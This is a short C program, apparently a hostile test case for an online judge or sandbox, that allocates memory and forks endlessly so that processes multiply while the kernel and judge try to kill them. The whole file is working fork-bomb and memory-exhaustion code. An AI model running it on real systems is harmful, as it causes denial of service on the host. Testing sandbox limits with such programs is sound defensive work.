/* Eats memory and forks at once in every process, so that new processes appear while the kernel
 * and the judge kill. */
#include "attack.h"

int main(void)
{
    for (;;) {
        touch_memory(256 << 10);
        (void)!fork();
    }
}
